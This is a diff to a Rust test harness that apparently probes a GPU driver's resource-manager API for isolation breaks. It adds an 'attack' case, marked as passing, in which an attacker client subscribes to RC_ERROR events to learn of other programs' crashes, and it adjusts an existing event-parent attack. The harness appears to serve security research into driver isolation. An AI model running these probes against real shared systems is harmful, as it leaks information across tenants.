@@ -27,6 +27,8 @@ attacks! {
         Passes, Told, target_client;
     "another's memory as a dma-buf (EXPORT_TO_DMABUF_FD)": "osapi.c:RmDmabufVerifyMemHandle",
         NotModelled, Told, dmabuf;
+    "an event of the crashes of others (RC_ERROR)": "gpu_rmapi.c:gpuNotifySubDeviceEvent_IMPL",
+        Passes, Told, crashes;
     "the key of another's event taken (ALLOC_OS_EVENT)": "osapi.c:allocate_os_event",
         Passes, Victim, take_event_key;
     "the key of another's event freed (FREE_OS_EVENT)": "osapi.c:free_os_event",
@@ -161,6 +163,7 @@ fn event_parent(a: &Attacker) -> Verdict {
     put_u32(&mut params, 0, a.victim.client);
     put_u32(&mut params, 4, rm::SUBDEVICE_HANDLE);
     put_u32(&mut params, 8, layout::CLASS_OS_EVENT);
+    put_u32(&mut params, 12, rm::ENGINE_EVENT);
     put_u64(&mut params, 16, 5);
     a.alloc(
         rm::SUBDEVICE_HANDLE,
@@ -168,6 +171,18 @@ fn event_parent(a: &Attacker) -> Verdict {
         layout::CLASS_OS_EVENT,
         &mut params,
     )
+}
+
+/// NV2080_NOTIFIERS_RC_ERROR of the attacker's own subdevice, which tells of every program.
+fn crashes(a: &Attacker) -> Verdict {
+    event_key(a, 206, a.client.handle, 5)?;
+    let mut params = [0; 24];
+    put_u32(&mut params, 0, a.client.handle);
+    put_u32(&mut params, 8, layout::CLASS_OS_EVENT);
+    put_u32(&mut params, 12, 0x25);
+    put_u64(&mut params, 16, 5);
+    let class = layout::CLASS_OS_EVENT;
+    a.alloc(rm::SUBDEVICE_HANDLE, OWN, class, &mut params)
 }
 
 fn debugger(a: &Attacker) -> Verdict {
